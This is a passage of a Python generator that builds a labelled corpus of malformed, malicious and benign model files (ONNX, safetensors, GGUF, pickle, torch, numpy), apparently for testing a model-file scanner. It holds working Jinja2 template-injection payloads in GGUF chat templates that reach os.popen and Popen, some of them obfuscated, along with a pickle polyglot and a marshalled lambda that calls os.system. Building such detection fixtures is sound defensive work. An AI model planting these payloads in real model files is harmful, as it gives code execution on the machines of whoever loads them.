    big.raw_data = b"\x00" * 16
    M("onnx/oversize_dims.onnx", onnx_model(mm, [big]), "onnx_oversize", "initializer dims 2^40 x 2^40 with 16 bytes of raw_data")
    neg = raw_tensor("W", [-1, 4])
    neg.raw_data = b"\x00" * 16
    M("onnx/negative_dims.onnx", onnx_model(mm, [neg]), "onnx_oversize", "initializer with a negative dimension")
    # benign ONNX
    w2 = helper.make_tensor("W", TensorProto.FLOAT, [2, 2], [1.0, 0.0, 0.0, 1.0])
    B("onnx/benign_matmul.onnx", onnx_model(mm, [w2]), "benign_onnx", "MatMul with an inline initializer")
    B("onnx/benign_ext/model.onnx", onnx_model(mm, [ext_tensor("W", "model.onnx.data")]), "benign_onnx", "external data in model.onnx.data next to the model")
    B("onnx/benign_ext/model.onnx.data", np.eye(2, dtype=np.float32).tobytes(), "benign_onnx", "raw external tensor bytes (16 bytes)")
    B("onnx/benign_ext_subdir/model.onnx", onnx_model(mm, [ext_tensor("W", "weights/w.bin")]), "benign_onnx", "external data in a subdirectory (weights/w.bin)")
    B("onnx/benign_ext_subdir/weights/w.bin", np.eye(2, dtype=np.float32).tobytes(), "benign_onnx", "raw external tensor bytes")
    B("onnx/benign_ml_domain.onnx", onnx_model([helper.make_node("Normalizer", ["X"], ["Y"], domain="ai.onnx.ml", norm="L2")], [], opsets=(("", 17), ("ai.onnx.ml", 3))),
      "benign_onnx", "standard ai.onnx.ml domain op (Normalizer)")
    B("onnx/benign_if.onnx", onnx_model([helper.make_node("Constant", [], ["cond"], value=helper.make_tensor("c", TensorProto.BOOL, [], [True])),
                                          helper.make_node("If", ["cond"], ["Y"], then_branch=helper.make_graph([helper.make_node("Identity", ["X"], ["Y"])], "t", [], [Y]),
                                                           else_branch=else_g)], []), "benign_onnx", "If with inline subgraphs")
    R("onnx/review_com_microsoft.onnx", onnx_model([helper.make_node("FusedMatMul", ["X", "W"], ["Y"], domain="com.microsoft", alpha=1.0)], [w2],
                                                    opsets=(("", 17), ("com.microsoft", 1))),
      "review_onnx", "onnxruntime contrib op com.microsoft.FusedMatMul (built into ORT, non-standard domain)")

    # ------------------------------------------------------------------ safetensors
    def st(header, data=b"", hlen=None, raw_header=None):
        h = raw_header if raw_header is not None else json.dumps(header, separators=(",", ":")).encode()
        if raw_header is None:
            h += b" " * ((-len(h)) % 8)
        return struct.pack("<Q", len(h) if hlen is None else hlen) + h + data
    W8 = {"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}
    d8 = np.ones(2, np.float32).tobytes()
    sm = [
        ("hlen_2_63", st(W8, d8, hlen=2**63), "header length 2^63"),
        ("hlen_past_eof", st(W8, d8, hlen=10_000), "header length 10000 > file size"),
        ("hlen_zero", st(W8, d8, hlen=0), "header length 0"),
        ("non_json", st(None, d8, raw_header=b"{'w': not json}"), "header is not JSON"),
        ("invalid_utf8", st(None, d8, raw_header=b'{"w\xff\xfe":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'), "header with invalid UTF-8"),
        ("json_array", st(None, d8, raw_header=b"[1,2,3]   "), "header is a JSON array, not an object"),
        ("overlap", st({"a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}, "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, d8 + d8[:4]),
         "overlapping ranges a=[0,8) b=[4,12)"),
        ("oob", st({"w": {"dtype": "F32", "shape": [1024], "data_offsets": [0, 4096]}}, d8), "offsets past end of file"),
        ("begin_gt_end", st({"w": {"dtype": "F32", "shape": [0], "data_offsets": [8, 0]}}, d8), "begin > end"),
        ("gap", st({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}, "b": {"dtype": "F32", "shape": [1], "data_offsets": [8, 12]}}, d8 + d8[:4]),
         "non-contiguous ranges (hidden bytes between tensors)"),
        ("dtype_shape_mismatch", st({"w": {"dtype": "F32", "shape": [4], "data_offsets": [0, 8]}}, d8), "shape [4] F32 needs 16 bytes, range is 8"),
        ("shape_overflow", st({"w": {"dtype": "F64", "shape": [2**32, 2**32, 2**32], "data_offsets": [0, 8]}}, d8), "shape product overflows u64"),
        ("unknown_dtype", st({"w": {"dtype": "PYOBJ", "shape": [2], "data_offsets": [0, 8]}}, d8), "unknown dtype"),
        ("negative_offset", st({"w": {"dtype": "F32", "shape": [2], "data_offsets": [-8, 0]}}, d8), "negative offset"),
        ("duplicate_names", st(None, d8 + d8, raw_header=b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2],"data_offsets":[8,16]}}'),
         "duplicate tensor name w"),
        ("deep_nesting", st(None, d8, raw_header=b'{"__metadata__":{"x":' + b"[" * 100000 + b"]" * 100000 + b"}}"), "100000-deep JSON nesting in metadata"),
        ("trailing_pickle", st(W8, d8) + payload_pickle(2), "trailing bytes after the last tensor: a payload pickle (polyglot)"),
        ("trailing_bytes", st(W8, d8) + b"\x00" * 64, "64 trailing bytes after the last tensor"),
        ("metadata_non_string", st({"__metadata__": {"format": {"nested": [1, 2]}}, **W8}, d8), "__metadata__ value is not a string"),
        ("hlen_over_cap", st(W8, d8, hlen=150_000_000), "header length 150 MB (over a 100 MB header cap), file is 100 bytes"),
        ("truncated_data", st(W8, d8[:4]), "data section shorter than declared"),
    ]
    for name, data, desc in sm:
        M(f"safetensors/{name}.safetensors", data, "safetensors_malformed", desc)
    B("safetensors/benign_f32.safetensors", st_save({"w": np.ones((2, 2), np.float32), "b": np.zeros(2, np.float32)}, metadata={"format": "pt"}),
      "benign_safetensors", "two F32 tensors with metadata")
    B("safetensors/benign_mixed.safetensors", st_save({"a": np.arange(6, dtype=np.int64), "h": np.ones(3, np.float16), "m": np.array([True, False]),
                                                       "u": np.arange(4, dtype=np.uint8)}), "benign_safetensors", "I64/F16/BOOL/U8 tensors")
    B("safetensors/benign_empty_tensor.safetensors", st_save({"e": np.zeros((0, 3), np.float32), "s": np.array(1.0, np.float32)}), "benign_safetensors",
      "zero-size and scalar tensors")
    B("safetensors/benign_no_tensors.safetensors", st({"__metadata__": {"format": "pt"}}), "benign_safetensors", "metadata only, no tensors")
    B("safetensors/benign_bf16.safetensors", st({"w": {"dtype": "BF16", "shape": [2, 2], "data_offsets": [0, 8]}}, b"\x80\x3f" * 4), "benign_safetensors",
      "hand-written BF16 tensor")

    # ------------------------------------------------------------------ GGUF
    def gstr(x):
        b = x.encode() if isinstance(x, str) else x
        return struct.pack("<Q", len(b)) + b
    def kv_str(k, v):
        return gstr(k) + struct.pack("<I", 8) + gstr(v)
    def kv_u32(k, v):
        return gstr(k) + struct.pack("<I", 4) + struct.pack("<I", v)
    def tinfo(name, dims, ttype, off):
        return gstr(name) + struct.pack("<I", len(dims)) + b"".join(struct.pack("<Q", d) for d in dims) + struct.pack("<I", ttype) + struct.pack("<Q", off)
    def gguf(kvs, tinfos, data=b"", version=3, align=32, n_t=None, n_kv=None):
        h = b"GGUF" + struct.pack("<I", version) + struct.pack("<QQ", len(tinfos) if n_t is None else n_t, len(kvs) if n_kv is None else n_kv)
        h += b"".join(kvs) + b"".join(tinfos)
        h += b"\x00" * ((-len(h)) % align)
        return h + data
    base_kv = [kv_str("general.architecture", "llama"), kv_str("general.name", "tiny")]
    t1 = [tinfo("w.weight", [4], 0, 0)]
    d16 = np.ones(4, np.float32).tobytes()
    gm = [
        ("tensor_count_2_62", gguf(base_kv, t1, d16, n_t=2**62), "tensor count 2^62"),
        ("kv_count_2_62", gguf(base_kv, t1, d16, n_kv=2**62), "metadata kv count 2^62"),
        ("key_len_2_60", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", 2**60) + b"general", "key length 2^60"),
        ("string_len_2_62", b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + gstr("general.name") + struct.pack("<I", 8) + struct.pack("<Q", 2**62) + b"abc",
         "string value length 2^62"),
        ("array_len_2_61", gguf([gstr("tokenizer.ggml.tokens") + struct.pack("<I", 9) + struct.pack("<I", 8) + struct.pack("<Q", 2**61) + gstr("a")], []),
         "string array with 2^61 elements"),
        ("nested_array", gguf([gstr("x") + struct.pack("<I", 9) + (struct.pack("<I", 9) + struct.pack("<Q", 1)) * 2000 + struct.pack("<I", 4) + struct.pack("<Q", 1) + b"\0\0\0\0"], []),
         "array of array nested 2000 deep"),
        ("bad_value_type", gguf([gstr("x") + struct.pack("<I", 99) + b"\0" * 8], []), "metadata value type 99"),
        ("n_dims_huge", gguf(base_kv, [gstr("w") + struct.pack("<I", 2**31) + struct.pack("<Q", 4) + struct.pack("<IQ", 0, 0)], d16), "tensor n_dims 2^31"),
        ("dims_overflow", gguf(base_kv, [tinfo("w", [2**40, 2**40], 0, 0)], d16), "tensor dims 2^40 x 2^40 (product overflows)"),
        ("offset_oob", gguf(base_kv, [tinfo("w", [4], 0, 1 << 30)], d16), "tensor offset 1 GiB past a 16-byte data section"),
        ("offset_misaligned", gguf(base_kv, [tinfo("a", [4], 0, 0), tinfo("b", [1], 0, 3)], d16), "tensor offset 3 not aligned to 32"),
        ("size_past_eof", gguf(base_kv, [tinfo("w", [1 << 20], 0, 0)], d16), "tensor of 4 MiB declared, 16 bytes present"),
        ("overlapping_tensors", gguf(base_kv, [tinfo("a", [4], 0, 0), tinfo("b", [4], 0, 0)], d16), "two tensors share one data range (alias)"),
        ("bad_ggml_type", gguf(base_kv, [tinfo("w", [4], 999, 0)], d16), "unknown ggml type 999"),
        ("version_0", gguf(base_kv, t1, d16, version=0), "GGUF version 0"),
        ("version_huge", gguf(base_kv, t1, d16, version=0xFFFFFFFF), "GGUF version 0xFFFFFFFF"),
        ("alignment_zero", gguf(base_kv + [kv_u32("general.alignment", 0)], t1, d16), "general.alignment = 0"),
        ("alignment_not_pow2", gguf(base_kv + [kv_u32("general.alignment", 24)], t1, d16, align=24), "general.alignment = 24 (not a power of two)"),
        ("truncated_header", gguf(base_kv, t1, d16)[:40], "file ends inside the metadata"),
        ("big_endian_confusion", b"GGUF" + struct.pack(">IQQ", 3, 1, 2) + b"\0" * 64, "big-endian counts (2^56 tensors when read little-endian)"),
    ]
    for name, data, desc in gm:
        M(f"gguf/{name}.gguf", data, "gguf_malformed", desc)

    def gguf_tmpl(t):
        return gguf(base_kv + [kv_str("tokenizer.chat_template", t)], t1, d16)
    ssti = [
        ("globals_popen", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + CMD + "').read() }}", "self.__init__.__globals__ ... os.popen"),
        ("subclasses", "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'Popen' %}{{ c(['touch','" + MARK_FILE + "']) }}{% endif %}{% endfor %}",
         "''.__class__.__mro__[1].__subclasses__() -> Popen"),
        ("cycler_os", "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() }}", "cycler.__init__.__globals__.os.popen"),
        ("joiner_os", "{{ joiner.__init__.__globals__.os.system('" + CMD + "') }}", "joiner.__init__.__globals__.os.system"),
        ("lipsum_os", "{{ lipsum.__globals__['os'].popen('" + CMD + "').read() }}", "lipsum.__globals__['os']"),
        ("namespace_globals", "{{ namespace.__init__.__globals__['__builtins__']['eval'](\"" + PYSRC.replace('"', "'") + "\") }}", "namespace.__init__.__globals__ builtins eval"),
        ("concat_attr", "{% set g = '__glo' ~ 'bals__' %}{% set i = '__in' ~ 'it__' %}{{ (cycler|attr(i)|attr(g))['o' ~ 's'].popen('" + CMD + "').read() }}",
         "string concatenation + |attr() to spell __init__/__globals__/os"),
        ("hex_escape", "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f')|attr('\\x5f\\x5fbase\\x5f\\x5f')|attr('\\x5f\\x5fsubclasses\\x5f\\x5f')() }}",
         "\\x5f escapes to spell __class__/__base__/__subclasses__"),
        ("join_filter", "{% set a = ['__cla','ss__']|join %}{{ (''|attr(a)).__mro__ }}", "['__cla','ss__']|join to build a dunder name"),
        ("benign_prefix_payload", "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
         "{{ cycler.__init__.__globals__.os.popen('" + CMD + "').read() if false else '' }}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}",
         "normal ChatML template with an os.popen expression appended"),
    ]
    for name, t, desc in ssti:
        M(f"gguf/ssti_{name}.gguf", gguf_tmpl(t), "gguf_chat_template", "chat template SSTI: " + desc)
    CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
              "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")
    LLAMA3 = ("{% set loop_messages = messages %}{% for message in loop_messages %}{% set content = '<|start_header_id|>' + message['role'] + "
              "'<|end_header_id|>\\n\\n'+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}{% set content = bos_token + content %}{% endif %}"
              "{{ content }}{% endfor %}{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}")
    MISTRAL = ("{{ bos_token }}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
               "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}{% if message['role'] == 'user' %}"
               "{{ '[INST] ' + message['content'] + ' [/INST]' }}{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
               "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}")
    GEMMA = ("{{ bos_token }}{% set ns = namespace(system='') %}{% for message in messages %}{% if message['role'] == 'system' %}{% set ns.system = message['content'] %}"
             "{% else %}{{ '<start_of_turn>' + ('model' if message['role'] == 'assistant' else message['role']) + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}"
             "{% endif %}{% endfor %}{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}")
    B("gguf/benign_v3.gguf", gguf(base_kv, t1, d16), "benign_gguf", "valid GGUF v3, one F32 tensor")
    B("gguf/benign_v2.gguf", gguf(base_kv, t1, d16, version=2), "benign_gguf", "valid GGUF v2")
    B("gguf/benign_arrays.gguf", gguf(base_kv + [gstr("tokenizer.ggml.tokens") + struct.pack("<I", 9) + struct.pack("<I", 8) + struct.pack("<Q", 3) + gstr("<s>") + gstr("</s>") + gstr("a"),
                                                 gstr("tokenizer.ggml.scores") + struct.pack("<I", 9) + struct.pack("<I", 6) + struct.pack("<Q", 3) + struct.pack("<3f", 0, 0, -1),
                                                 kv_u32("general.alignment", 64)],
                                      [tinfo("a", [4], 0, 0), tinfo("b", [2, 2], 1, 64)], d16 + b"\0" * 48 + np.ones(4, np.float16).tobytes(), align=64),
      "benign_gguf", "GGUF v3 with token arrays, alignment 64, F32+F16 tensors")
    LLAMA31_TOOLS = ("{{- bos_token }}{%- if not tools_in_user_message is defined %}{%- set tools_in_user_message = true %}{%- endif %}"
                     "{%- if builtin_tools is defined or tools is not none %}{{- 'Environment: ipython\\n' }}{%- endif %}"
                     "{%- if builtin_tools is defined %}{{- 'Tools: ' + builtin_tools | reject('equalto', 'code_interpreter') | join(', ') + '\\n\\n' }}{%- endif %}"
                     "{{- 'Cutting Knowledge Date: December 2023\\n' }}{%- for t in tools or [] %}{{- t | tojson(indent=4) }}{%- endfor %}"
                     "{%- for message in messages %}{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim + '<|eot_id|>' }}"
                     "{%- endfor %}{%- if add_generation_prompt %}{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}")
    B("gguf/benign_template_llama31_tools.gguf", gguf_tmpl(LLAMA31_TOOLS), "benign_gguf",
      "Llama 3.1-style tool-use template (builtin_tools, 'Environment: ipython', tojson) -- no Python internals")
    for name, t in (("chatml", CHATML), ("llama3", LLAMA3), ("mistral", MISTRAL), ("gemma", GEMMA)):
        B(f"gguf/benign_template_{name}.gguf", gguf_tmpl(t), "benign_gguf", f"GGUF with a normal {name} chat template")

    # ------------------------------------------------------------------ benign pickles
    import collections
    import datetime
    import decimal
    import fractions
    import uuid
    import argparse
    plain = {"hidden": 32, "act": "gelu", "layers": [1, 2, 3], "eps": 1e-5, "names": ("a", "b"), "blob": b"\x00\x01", "big": 2**70,
             "c": 1 + 2j, "s": {1, 2}, "fs": frozenset({3}), "ba": bytearray(b"xy"), "none": None, "t": True}
    for p in range(6):
        B(f"pickle/benign/plain_p{p}.pkl", pickle.dumps(plain, protocol=p), "benign_pickle_plain", f"plain-data dict, protocol {p}")
    B("pickle/benign/ordered_dict_p2.pkl", pickle.dumps(collections.OrderedDict(a=1, b=[2.0]), protocol=2), "benign_pickle_plain", "collections.OrderedDict")
    B("pickle/benign/datetime_decimal_p4.pkl", pickle.dumps({"when": datetime.datetime(2024, 1, 2, 3, 4, 5), "d": datetime.date(2024, 1, 1),
                                                             "td": datetime.timedelta(3), "dec": decimal.Decimal("1.5"), "fr": fractions.Fraction(1, 3)}, protocol=4),
      "benign_pickle_plain", "datetime/date/timedelta/Decimal/Fraction")
    B("pickle/benign/uuid_p4.pkl", pickle.dumps({"run_id": uuid.UUID(int=0x1234)}, protocol=4), "benign_pickle_plain", "uuid.UUID (picklescan denylists the uuid module)")
    B("pickle/benign/namespace_p3.pkl", pickle.dumps(argparse.Namespace(lr=0.1, epochs=3), protocol=3), "benign_pickle_plain", "argparse.Namespace of training args")
    B("pickle/benign/counter_deque_p2.pkl", pickle.dumps({"c": collections.Counter("aab"), "q": collections.deque([1, 2]), "dd": collections.defaultdict(list)}, protocol=2),
      "benign_pickle_plain", "Counter/deque/defaultdict(list)")
    B("pickle/benign/range_slice_p5.pkl", pickle.dumps([range(3), slice(1, 2), complex(1, 1)], protocol=5), "benign_pickle_plain", "range/slice/complex, protocol 5")
    B("pickle/benign/bytearray8_p5.pkl", pickle.dumps(bytearray(300), protocol=5), "benign_pickle_plain", "protocol 5 BYTEARRAY8")
    B("pickle/benign/multi_stream.pkl", pickle.dumps({"a": 1}, protocol=2) + pickle.dumps([1, 2], protocol=4), "benign_pickle_plain", "two plain pickles in one stream")
    B("pickle/benign/empty_list_p0.pkl", pickle.dumps([], protocol=0), "benign_pickle_plain", "protocol 0 empty list")
    B("pickle/benign/memo_heavy_p4.pkl", pickle.dumps([["shared"]] * 50, protocol=4), "benign_pickle_plain", "shared sub-object referenced 50 times (BINGET)")
    B("pickle/benign/vocab.pkl.gz", gzip.compress(pickle.dumps({"tok": list("abc")}, protocol=4), mtime=0), "benign_pickle_plain", "gzip-compressed plain-data pickle")
    B("pickle/benign/vocab.joblib", zlib.compress(pickle.dumps({"tok": list("abc")}, protocol=4)), "benign_pickle_plain", "zlib-compressed plain-data pickle")

    # benign_review: numpy / sklearn reconstructors
    arr = np.arange(6, dtype=np.float32).reshape(2, 3)
    for p in (2, 3, 4, 5):
        R(f"pickle/review/numpy_array_p{p}.pkl", pickle.dumps({"w": arr, "s": np.float64(1.5)}, protocol=p), "review_numpy",
          f"pickle.dumps of a numpy array and scalar, protocol {p} (numpy reconstructors)")
    R("pickle/review/numpy_legacy_core.pkl",
      b"\x80\x02" + G("numpy.core.multiarray", "_reconstruct") + G("numpy", "ndarray") + b"K\x00\x85C\x01b\x87R(K\x01K\x02\x85" + G("numpy", "dtype") + bu("f8")
      + b"\x89\x88\x87R(K\x03" + bu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89C\x10" + b"\x00" * 16 + b"tb.",
      "review_numpy", "numpy 1.x style numpy.core.multiarray._reconstruct")
    sk = (b"\x80\x02" + G("sklearn.linear_model._base", "LinearRegression") + b")\x81}(" + bu("coef_")
          + G("numpy.core.multiarray", "_reconstruct") + G("numpy", "ndarray") + b"K\x00\x85" + G("_codecs", "encode")
          + bu("b") + bu("latin1") + b"\x86R" + b"\x87R" + b"(K\x01K\x02\x85" + G("numpy", "dtype") + bu("f8") + b"\x89\x88\x87R"
          + b"(K\x03" + bu("<") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb\x89" + bu("\x00" * 16) + bu("latin1") + b"\x86" + b"0"
          + G("_codecs", "encode") + bu("\x00" * 16) + bu("latin1") + b"\x86R" + b"tb" + bu("fit_intercept") + b"\x88" + bu("_sklearn_version") + bu("1.3.2") + b"ub.")
    R("pickle/review/sklearn_linreg.pkl", sk, "review_sklearn", "sklearn LinearRegression with numpy reconstructors + _codecs.encode")
    sc = (b"\x80\x04" + SG("sklearn.preprocessing._data", "StandardScaler") + b")\x81}(" + sbu("with_mean") + b"\x88" + sbu("mean_")
          + pickle.dumps(np.zeros(3), protocol=4)[2:].split(b"\x95", 1)[-1][8:-1] + sbu("_sklearn_version") + sbu("1.4.0") + b"ub.")
    R("pickle/review/sklearn_scaler_p4.pkl", sc, "review_sklearn", "sklearn StandardScaler, protocol 4, numpy array state")
    pipe = (b"\x80\x04" + SG("sklearn.pipeline", "Pipeline") + b")\x81}(" + sbu("steps") + b"](" + sbu("scale") + SG("sklearn.preprocessing._data", "StandardScaler")
            + b")\x81}" + sbu("with_std") + b"\x88sb\x86" + sbu("clf") + SG("sklearn.linear_model._logistic", "LogisticRegression") + b")\x81}" + sbu("C") + b"G?\xf0\x00\x00\x00\x00\x00\x00sb\x86e"
            + sbu("memory") + b"Nub.")
    R("pickle/review/sklearn_pipeline.pkl", pipe, "review_sklearn", "sklearn Pipeline(StandardScaler, LogisticRegression), NEWOBJ+BUILD")
    tree = (b"\x80\x04" + SG("sklearn.tree._classes", "DecisionTreeClassifier") + b")\x81}(" + sbu("tree_") + SG("sklearn.tree._tree", "Tree")
            + b"K\x04" + pickle.dumps(np.array([2]), protocol=4)[11:-1] + b"K\x01\x87R}(" + sbu("max_depth") + b"K\x01" + sbu("node_count") + b"K\x01ub" + sbu("_sklearn_version") + sbu("1.4.0") + b"ub.")
    R("pickle/review/sklearn_tree.pkl", tree, "review_sklearn", "sklearn DecisionTree: sklearn.tree._tree.Tree(n_features, n_classes, n_outputs) via REDUCE + BUILD")
    R("pickle/review/user_class_p4.pkl", frame4(SG("my_project.models", "Config") + b")\x81}" + sbu("depth") + b"K\x03sb"), "review_unknown_class",
      "instance of an unknown user class rebuilt with NEWOBJ+BUILD (plain state)")
    R("pickle/review/numpy_object_npy.npy", npy(np.array([{"a": 1}, [1, 2]], dtype=object)), "review_numpy", "object .npy with plain dict/list elements (pickle of builtins)")

    # ------------------------------------------------------------------ benign torch
    B("torch/benign_state_dict.pt", torch_zip(good, TENS), "benign_pytorch", "state_dict zip (OrderedDict/_rebuild_tensor_v2/FloatStorage)")
    B("torch/benign_renamed_dir.bin", torch_zip(good, TENS, archive="pytorch_model"), "benign_pytorch", "state_dict zip, inner dir pytorch_model/")
    B("torch/benign_params.pth", torch_zip(torch_datapkl(TENS, param=True), TENS), "benign_pytorch", "state_dict with _rebuild_parameter")
    B("torch/benign_half.pt", torch_zip(torch_datapkl(TENS, storage="HalfStorage"), TENS), "benign_pytorch", "HalfStorage tensors")
    B("torch/benign_bf16.pt", torch_zip(torch_datapkl(TENS, storage="BFloat16Storage"), TENS), "benign_pytorch", "BFloat16Storage tensors")
    ck = (b"\x80\x02}(" + bu("epoch") + b"K\x05" + bu("state_dict") + torch_datapkl(TENS)[2:-1] + bu("lr") + b"G?PbM\xd2\xf1\xa9\xfc" + b"u.")
    B("torch/benign_checkpoint.ckpt", torch_zip(ck, TENS), "benign_pytorch", "training checkpoint dict {epoch, state_dict, lr}")
    B("torch/benign_legacy.bin", legacy(good, keys=(b"0", b"1")), "benign_pytorch", "legacy (pre-1.6) magic-number stream state_dict")
    B("torch/benign_legacy_tar.tar", tar_bytes([("sys_info", pickle.dumps({"protocol_version": 1000, "little_endian": True}, protocol=2)), ("pickle", good),
                                                ("storages", pickle.dumps(0, protocol=2)), ("tensors", pickle.dumps(0, protocol=2))]), "benign_pytorch", "legacy torch tar state_dict")
    B("torch/benign_deflated.pt", torch_zip(good, TENS, compress=zipfile.ZIP_DEFLATED), "benign_pytorch", "state_dict zip with deflated members")

    # whole nn.Module save (torch.save(model)): non-stdlib class rebuilt with NEWOBJ + BUILD, plain state
    mod = (b"\x80\x02" + G("torch.nn.modules.linear", "Linear") + b")\x81}(" + bu("training") + b"\x88" + bu("_parameters")
           + torch_datapkl(TENS, param=True)[2:-1] + bu("_buffers") + G("collections", "OrderedDict") + b")R" + bu("in_features") + b"K\x04"
           + bu("out_features") + b"K\x03" + b"ub.")
    R("torch/review_whole_module.pt", torch_zip(mod, TENS), "review_pytorch", "torch.save(nn.Linear) whole module: torch.nn.modules.linear.Linear NEWOBJ+BUILD")
    B("torch/benign_torch21_layout.pt", torch_zip(good, TENS, extra_members=[("archive/.data/version", b"3\n"), ("archive/.data/serialization_id", b"1234567890123456789012345678901234567890"),
                                                                           ("archive/.format_version", b"1"), ("archive/.storage_alignment", b"64")]),
      "benign_pytorch", "torch >= 2.1 zip layout (.data/serialization_id, .format_version, .storage_alignment)")
    opt = (b"\x80\x02}(" + bu("state") + b"}K\x00}(" + bu("step") + b"K\x0a" + bu("exp_avg") + torch_datapkl(TENS[:1])[2:-1] + b"us" + bu("param_groups")
           + b"]}(" + bu("lr") + b"G?PbM\xd2\xf1\xa9\xfc" + bu("betas") + b"G?\xec\xcc\xcc\xcc\xcc\xcc\xcdG?\xef\xf7\xce\xd9\x16\x87+\x86" + bu("params") + b"]K\x00a" + b"ua" + b"u.")
    B("torch/benign_optimizer.pt", torch_zip(opt, TENS[:1]), "benign_pytorch", "optimizer state_dict (Adam: step, exp_avg tensor, param_groups)")

    # ------------------------------------------------------------------ benign numpy
    B("numpy/benign_f32.npy", npy(arr), "benign_numpy", "float32 2x3")
    B("numpy/benign_i64_fortran.npy", npy(np.asfortranarray(np.arange(6).reshape(2, 3))), "benign_numpy", "int64 fortran order")
    B("numpy/benign_bool_0d.npy", npy(np.array(True)), "benign_numpy", "0-d bool")
    B("numpy/benign_structured.npy", npy(np.zeros(2, dtype=[("x", "<f4"), ("y", "<i2")])), "benign_numpy", "structured dtype")
    B("numpy/benign_big_endian.npy", npy(np.arange(3, dtype=">f8")), "benign_numpy", "big-endian f8")
    B("numpy/benign_v2.npy", npy(np.zeros(2, np.float32), version=(2, 0)), "benign_numpy", "format 2.0 header")
    B("numpy/benign_stored.npz", zbytes([("a.npy", npy(np.zeros(3))), ("b.npy", npy(np.ones((2, 2), np.int32)))]), "benign_numpy", "stored npz")
    B("numpy/benign_deflated.npz", zbytes([("a.npy", npy(np.zeros(3))), ("b.npy", npy(np.ones((2, 2), np.int32)))], zipfile.ZIP_DEFLATED), "benign_numpy",
      "deflated npz (np.savez_compressed)")

    # ------------------------------------------------------------------ benign text
    B("text/config.json", json.dumps({"architectures": ["LlamaForCausalLM"], "hidden_size": 64, "num_attention_heads": 4, "torch_dtype": "float32"}, indent=2).encode(),
      "benign_text", "HF config.json")
    B("text/tokenizer.json", json.dumps({"version": "1.0", "model": {"type": "BPE", "vocab": {"a": 0, "b": 1, "ab": 2}, "merges": ["a b"]},
                                         "added_tokens": [{"id": 3, "content": "<s>", "special": True}]}, indent=2).encode(), "benign_text", "HF tokenizer.json")
    B("text/tokenizer_config.json", json.dumps({"bos_token": "<s>", "eos_token": "</s>", "chat_template": CHATML}, indent=2).encode(), "benign_text",
      "tokenizer_config.json with a normal ChatML chat_template")
    B("text/generation_config.json", b'{"do_sample": true, "temperature": 0.7}\n', "benign_text", "generation_config.json")
    B("text/README.md", b"# tiny model\n\nA test model.\n", "benign_text", "model card")
    B("text/vocab.txt", b"[PAD]\n[UNK]\nhello\nworld\n", "benign_text", "BERT vocab.txt")
    B("text/merges.txt", b"#version: 0.2\na b\nab c\n", "benign_text", "BPE merges.txt")
    B("text/empty.pkl", b"", "benign_text", "0-byte .pkl (aborts picklescan's directory walk)")

    assert set(ACCEPT) <= {e["path"] for e in LABELS}, set(ACCEPT) - {e["path"] for e in LABELS}
    with open(os.path.join(OUT, "labels.jsonl"), "w") as f:
        for e in sorted(LABELS, key=lambda e: e["path"]):
            f.write(json.dumps(e, sort_keys=True) + "\n")
    counts = collections.Counter(e["label"] for e in LABELS)
    print(f"wrote {len(LABELS)} files to {FILES}: {dict(sorted(counts.items()))}")


def zbytes_deflated_big():
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as zf:
        zi = zipfile.ZipInfo("archive/data/0", date_time=DT)
        zi.compress_type = zipfile.ZIP_DEFLATED
        with zf.open(zi, "w", force_zip64=True) as w:
            z = bytes(1 << 20)
            for _ in range(64):
                w.write(z)
    return bio.getvalue()


def weights_h5():
    """a small, valid Keras 3 model.weights.h5 (layers/dense/vars/0), written with h5py."""
    import h5py
    import tempfile
    with tempfile.TemporaryDirectory() as d:
        p = os.path.join(d, "w.h5")
        with h5py.File(p, "w", libver="earliest") as f:
            g = f.create_group("layers", track_times=False).create_group("dense", track_times=False).create_group("vars", track_times=False)
            g.create_dataset("0", data=np.ones((4, 2), np.float32), track_times=False)
            g.create_dataset("1", data=np.zeros(2, np.float32), track_times=False)
            f.create_group("optimizer", track_times=False)
        return open(p, "rb").read()


def base64_lambda():
    """marshal (this CPython) of: lambda t: (__import__('os').system('touch /tmp/rampart_corpus_marker'), t)[1], base64."""
    import base64
    code = compile("lambda t: (__import__('os').system('touch /tmp/rampart_corpus_marker'), t)[1]", "<lambda>", "eval").co_consts[0]
    return base64.b64encode(marshal.dumps(code)).decode()


if __name__ == "__main__":
    main()
